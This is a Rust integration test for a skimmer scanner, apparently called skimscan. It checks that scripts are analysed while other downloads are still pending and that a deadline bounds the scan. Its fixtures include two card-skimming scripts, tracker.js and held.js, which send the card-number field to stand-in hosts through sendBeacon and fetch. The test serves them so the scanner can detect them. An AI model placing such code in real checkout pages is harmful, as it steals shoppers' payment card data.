//! Analysis overlaps the downloads (issue 8): a script is analysed as soon as it is loaded,
//! not after the last download. The server here holds one script until the scan reports that
//! another script has been analysed; a scan that analyses only after every download could
//! never get that far, so the held script answers only at its fallback time and the test
//! fails. The report must be the one a serial run (`--no-cache`: nothing analysed early,
//! nothing shared) gives, and a script every page shares is analysed once.

mod common;
use common::{Gate, Route, html, js, serve};
use skimscan::cache::CacheSetting;
use skimscan::config::{self, ScanOptions};
use skimscan::rules::RuleSet;
use skimscan::scan::progress::{Progress, Silent};
use skimscan::scan::{ScanRequest, scan};
use std::sync::{Arc, Mutex};
use std::time::Duration;

const PAGES: usize = 4;

fn page(i: usize) -> String {
    // The last page also runs the script the server holds, and a skimmer.
    let late = if i == PAGES - 1 {
        "<script src=\"/s/held.js\"></script><script src=\"/s/tracker.js\"></script>"
    } else {
        ""
    };
    format!(
        "<!doctype html><html><head><title>Checkout {i}</title>\
         <script src=\"/s/common.js\"></script><script src=\"/s/page-{i}.js\"></script>{late}\
         </head><body><form action=\"/order\" method=\"post\">\
         <input name=\"cc_number\" autocomplete=\"cc-number\"><input name=\"cvv\" autocomplete=\"cc-csc\">\
         <button>Pay</button></form></body></html>"
    )
}

fn routes(gate: &Gate) -> Vec<(String, Route)> {
    let mut r = vec![
        (
            "/s/common.js".to_string(),
            js(
                "window.shop = { cart: [], currency: 'EUR' };\nfunction total(c) { return c.reduce(function (a, b) { return a + b.price; }, 0); }",
            ),
        ),
        (
            "/s/tracker.js".to_string(),
            js(
                "document.querySelector('form').addEventListener('submit', function () {\n\
                  var c = document.querySelector('[name=cc_number]').value;\n\
                  navigator.sendBeacon('https://stats-collector.example/c', c);\n\
                });",
            ),
        ),
        (
            "/s/held.js".to_string(),
            Route::Gated(
                gate.clone(),
                Box::new(js("var c = document.getElementById('cc_number');\n\
                     fetch('https://held-sink.example/k', { method: 'POST', body: c.value });")),
            ),
        ),
    ];
    for i in 0..PAGES {
        r.push((format!("/p/{i}.html"), html(&page(i))));
        r.push((
            format!("/s/page-{i}.js"),
            js(&format!("var page{i} = {{ step: {i} }};")),
        ));
    }
    r
}

/// Records the scripts analysed early, and opens the gate once `common.js` is among them.
struct OpensGate {
    analysed: Mutex<Vec<String>>,
    gate: Gate,
}

impl Progress for OpensGate {
    fn analysed(&self, script: &str) {
        self.analysed.lock().unwrap().push(script.to_string());
        if script.ends_with("/s/common.js") {
            self.gate.open();
        }
    }
}

fn run(
    server: &common::Server,
    cache: CacheSetting,
    progress: Arc<dyn Progress>,
) -> serde_json::Value {
    run_with(server, cache, progress, None)
}

fn run_with(
    server: &common::Server,
    cache: CacheSetting,
    progress: Arc<dyn Progress>,
    deadline: Option<u64>,
) -> serde_json::Value {
    let opts = ScanOptions {
        deadline: deadline.map(|d| d as f64),
        depth: Some(0),
        concurrency: Some(4),
        // Longer than the gate's fallback: the held answer must arrive, late or not.
        timeout: Some(60.0),
        resolve: vec![server.resolve("shop.example")],
        ..Default::default()
    };
    let mut config = config::resolve(&opts).unwrap();
    config.cache = cache;
    let targets = (0..PAGES)
        .map(|i| {
            skimscan::target::parse(&server.url("shop.example", &format!("/p/{i}.html"))).unwrap()
        })
        .collect();
    let rt = tokio::runtime::Runtime::new().unwrap();
    let outcome = rt
        .block_on(scan(ScanRequest {
            targets,
            config,
            rules: Arc::new(RuleSet::load(false, &[]).unwrap()),
            extra_allowed: Vec::new(),
            progress,
            keep: None,
        }))
        .unwrap();
    let mut report = serde_json::to_value(&outcome.report).unwrap();
    for k in ["started_at", "finished_at"] {
        report.as_object_mut().unwrap().remove(k);
    }
    report
}

#[test]
fn scripts_are_analysed_while_a_download_is_still_held_and_the_report_is_the_serial_one() {
    // Analysis runs in worker processes of the real binary, as `skimscan scan` runs it.
    skimscan::js::worker::use_binary(env!("CARGO_BIN_EXE_skimscan").into());
    let gate = Gate::closed(Duration::from_secs(20));
    let server = serve(
        routes(&gate)
            .iter()
            .map(|(p, r)| (p.as_str(), r.clone()))
            .collect(),
    );
    let recorder = Arc::new(OpensGate {
        analysed: Mutex::new(Vec::new()),
        gate: gate.clone(),
    });
    let overlapped = run(&server, CacheSetting::Memory, recorder.clone());
    let analysed = recorder.analysed.lock().unwrap().clone();
    assert!(
        !gate.timed_out(),
        "held.js was answered only at its fallback time: nothing was analysed while it \
         downloaded (analysed early: {analysed:?})"
    );
    assert_eq!(server.hits("/s/held.js"), 1);
    // Four pages of one context share common.js: one analysis.
    let common = analysed
        .iter()
        .filter(|s| s.ends_with("/s/common.js"))
        .count();
    assert_eq!(common, 1, "{analysed:?}");

    // The serial reference: the gate is open now, and nothing is analysed early or shared.
    let serial = run(&server, CacheSetting::Off, Arc::new(Silent));
    assert_eq!(overlapped, serial);
    assert_eq!(overlapped["complete"], true, "{:#}", overlapped["errors"]);
    let rules = common::rules_of(&overlapped);
    assert!(
        rules.iter().any(|r| r == "payment-data-exfiltration"),
        "{rules:?}"
    );
    let scripts_with_held = overlapped["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| {
            f["script"]
                .as_str()
                .is_some_and(|s| s.ends_with("/s/held.js"))
        })
        .count();
    assert!(scripts_with_held > 0, "{:#}", overlapped["findings"]);
}

/// The deadline still bounds the scan when analyses run beside a download that never ends:
/// what was analysed early is reported, the held script is an `errors[]` entry, and nothing
/// waits on the held answer or on an analysis worker past the deadline.
#[test]
fn a_held_download_ends_at_the_deadline_with_the_early_analyses_reported() {
    skimscan::js::worker::use_binary(env!("CARGO_BIN_EXE_skimscan").into());
    // Never opened: only its (far) fallback would answer.
    let gate = Gate::closed(Duration::from_secs(300));
    let server = serve(
        routes(&gate)
            .iter()
            .map(|(p, r)| (p.as_str(), r.clone()))
            .collect(),
    );
    let recorder = Arc::new(OpensGate {
        analysed: Mutex::new(Vec::new()),
        gate: Gate::closed(Duration::ZERO),
    });
    let deadline = 10;
    let t = std::time::Instant::now();
    let report = run_with(
        &server,
        CacheSetting::Memory,
        recorder.clone(),
        Some(deadline),
    );
    let took = t.elapsed();
    assert!(
        took < Duration::from_secs(deadline + 20),
        "took {took:?}: the scan waited past its deadline"
    );
    assert_eq!(report["complete"], false);
    let errors: Vec<String> = report["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| format!("{} {}", e["url"], e["message"]))
        .collect();
    assert!(
        errors
            .iter()
            .any(|e| e.contains("/s/held.js") && e.contains("deadline")),
        "{errors:#?}"
    );
    // Only the held script is missing: the rest was analysed, the skimmer found.
    assert_eq!(errors.len(), 1, "{errors:#?}");
    let rules = common::rules_of(&report);
    assert!(
        rules.iter().any(|r| r == "payment-data-exfiltration"),
        "{rules:?}"
    );
    let analysed = recorder.analysed.lock().unwrap().clone();
    assert!(
        analysed.iter().any(|s| s.ends_with("/s/tracker.js")),
        "{analysed:?}"
    );
}
